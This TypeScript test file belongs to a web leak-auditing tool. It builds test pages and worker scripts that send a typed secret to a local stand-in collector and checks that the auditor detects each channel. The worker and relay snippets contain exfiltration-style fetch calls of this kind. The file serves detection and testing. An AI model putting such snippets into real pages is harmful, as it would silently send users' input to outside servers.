import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildIfStale } from '../../scripts/build.js'
import type { Recording } from '../../src/audit/recording.js'
import { openSession } from '../../src/audit/session.js'
import { departuresWith, drawSecret, remaindersWith, visitAll } from '../support/audit.js'
import { dataFolder } from '../support/data-folder.js'
import { foundAtPageLevel } from '../support/page-level.js'

type Listed = { readonly id: string; readonly page_code: string; readonly expect: string; readonly sink: string | null }

/** The list is not part of the repository; the words that its pages use are ours. */
const listed: { readonly channels: readonly Listed[] } = JSON.parse(
  readFileSync(join(dataFolder(), 'leaks', 'pages.json'), 'utf8'),
)

const words = `
const S = 'http://127.0.0.1:9000', H = 'leak.test', U = '192.0.2.7:9002', G = document.title
const E = (tag, attributes = {}, parent = document.body) => {
  const one = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value)
  parent.append(one)
  return one
}
const blobW = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }))
const blobURLxml = (v) => URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + S + '/x.xsl?' + v + '"?><a/>'], { type: 'text/xml' }))
const sl = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds))`

const files: Readonly<Record<string, string>> = {
  'w.js': `onmessage = ({ data }) => fetch('http://127.0.0.1:9000/w?' + data, { mode: 'no-cors' })`,
  'sh.js': `onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => fetch('http://127.0.0.1:9000/sh?' + data, { mode: 'no-cors' }) }`,
  'sw.js': `onactivate = (event) => event.waitUntil(clients.claim())
onmessage = ({ data }) => fetch('http://127.0.0.1:9000/sw?' + data, { mode: 'no-cors' })`,
  blank: '',
}

const pages = listed.channels.map((page) => ({ ...page, id: page.id.replace('ch/', ''), secret: drawSecret() }))
const folder = mkdtempSync(join(tmpdir(), 'entrenous-listed-'))
let recording: Recording
let failed: readonly string[] = []
let atPageLevel: ReadonlySet<string>

/** The one page that speaks to its parent is embedded by one that hands on what it hears. */
function htmlOf({ id, page_code: code }: { readonly id: string; readonly page_code: string }): string {
  const relay =
    id === 'postmessage-parent-relay'
      ? `onmessage = ({ data }) => fetch(S + '/relay?' + data.relay, { mode: 'no-cors' })`
      : ''
  const run = relay === '' ? '(v)' : ''
  const start =
    relay === ''
      ? `(${code})${run}`
      : `E('iframe', { srcdoc: '<script>(' + ${JSON.stringify(code)} + ')("' + v + '")</' + 'script>' })`
  return `<!doctype html><html><head><meta charset="utf-8"><title>${id}</title></head><body>
<label>Name <input id="field"></label><button id="send" type="button">Go on</button>
<script>${words}
${relay}
document.getElementById('send').onclick = () => { const v = document.getElementById('field').value; ${start} }
</script></body></html>`
}

beforeAll(async () => {
  buildIfStale()
  for (const [name, text] of Object.entries(files)) writeFileSync(join(folder, name), text)
  for (const page of pages) writeFileSync(join(folder, `${page.id}.html`), htmlOf(page))
  const policy = `/csp-violation-report.html\n  content-security-policy: img-src 'self'; report-uri http://127.0.0.1:9000/report\n`
  writeFileSync(join(folder, '_headers'), policy)
  const session = await openSession({ pages: { folder } })
  if (!session.ok) throw new Error(session.fault.says)
  const ours = visitAll(session.value, pages).then(async (unopened) => {
    failed = unopened
    recording = await session.value.close()
  })
  ;[atPageLevel] = await Promise.all([foundAtPageLevel(folder, pages), ours])
}, 600_000)

afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('every page of the list', () => {
  it('was opened and typed into', () => expect(failed).toEqual([]))
  for (const page of pages.filter(({ expect: what }) => what === 'leak')) {
    it(`${page.id} is found to leave, and reached a server of ours`, () => {
      const seenBy = departuresWith(recording, page.secret).flatMap((one) => one.seenBy)
      expect(seenBy.some((method) => method === 'servers' || method === 'names')).toBe(true)
    })
  }
  // Two of them only ask for something that the browser then does not do.
  const undone = ['speculation-prefetch', 'xslt-pi']
  for (const page of pages.filter(({ id, expect: what }) => what === 'at-rest-or-surface' && !undone.includes(id))) {
    it(`${page.id} is found at rest`, () => {
      expect(remaindersWith(recording, page.secret).length).toBeGreaterThan(0)
    })
  }
})

describe('beside the bodies of requests that a page is seen to make', () => {
  it('all methods together find every page that leaks, and that one a few', () => {
    const leaking = pages.filter(({ expect: what }) => what === 'leak')
    const ours = leaking.filter(({ secret }) => departuresWith(recording, secret).length > 0)
    const theirs = leaking.filter(({ id }) => atPageLevel.has(id))
    console.log(
      `of ${leaking.length} leaking pages: all methods ${ours.length}, bodies at the level of the page ${theirs.length}`,
    )
    expect(ours).toHaveLength(leaking.length)
    expect(theirs.length).toBeGreaterThan(0)
    expect(theirs.length).toBeLessThan(leaking.length / 2)
  })
})
